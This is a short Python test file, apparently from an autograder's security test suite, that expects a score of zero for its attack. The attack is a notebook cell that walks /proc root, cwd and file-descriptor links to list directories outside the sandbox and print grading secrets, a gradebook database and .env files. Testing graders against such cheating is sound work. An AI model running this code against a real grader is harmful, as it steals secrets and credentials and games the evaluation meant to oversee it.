"""Walks up from every open folder and root link in /proc to find the course.

deserves: 0
"""

CELL = """
import glob, os
for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/self/fd/*"):
    for up in ("", "/..", "/../..", "/../../..", "/work", "/home"):
        try:
            names = os.listdir(link + up)
            print(link + up, names)
            for name in set(names) & {".grading-secret", "gradebook.db", ".env"}:
                print(open(f"{link}{up}/{name}", "rb").read()[:5000])
        except OSError:
            pass
"""


def attack(work):
    work.add(CELL)
